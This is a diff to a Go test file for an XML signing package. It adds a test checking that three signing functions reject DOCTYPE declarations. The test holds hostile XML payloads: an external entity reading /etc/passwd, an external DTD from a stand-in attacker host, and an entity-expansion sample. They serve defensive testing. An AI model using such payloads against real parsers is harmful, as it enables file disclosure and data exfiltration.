@@ -1,7 +1,13 @@
 package dsig
 
 import (
+	"bytes"
+	"errors"
+	"strings"
 	"testing"
+
+	xmldsig "github.com/russellhaering/goxmldsig"
+	"github.com/sirosfoundation/g119612/pkg/validation"
 )
 
 func TestGetSigningMethodName(t *testing.T) {
@@ -12,3 +18,26 @@ func TestGetSigningMethodName(t *testing.T) {
 		t.Errorf("GetSigningMethodName() = %v, want %v", result, expected)
 	}
 }
+
+func TestSignXML_RejectsDoctype(t *testing.T) {
+	signer, _ := newStreamTestSigner(t)
+	payloads := map[string]string{
+		"external entity":  `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><root>&xxe;</root>`,
+		"external dtd":     `<!DOCTYPE root SYSTEM "http://attacker.example.com/evil.dtd"><root>x</root>`,
+		"entity expansion": `<!DOCTYPE root [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><root>&b;</root>`,
+	}
+	for name, doc := range payloads {
+		t.Run(name, func(t *testing.T) {
+			if _, err := SignXML([]byte(doc), signer); !errors.Is(err, validation.ErrDoctype) {
+				t.Errorf("SignXML() error = %v, want ErrDoctype", err)
+			}
+			if _, err := SignXMLWithKeyStore([]byte(doc), xmldsig.RandomKeyStoreForTest()); !errors.Is(err, validation.ErrDoctype) {
+				t.Errorf("SignXMLWithKeyStore() error = %v, want ErrDoctype", err)
+			}
+			var out bytes.Buffer
+			if err := SignXMLStream(&out, strings.NewReader(doc), signer); !errors.Is(err, validation.ErrDoctype) {
+				t.Errorf("SignXMLStream() error = %v, want ErrDoctype", err)
+			}
+		})
+	}
+}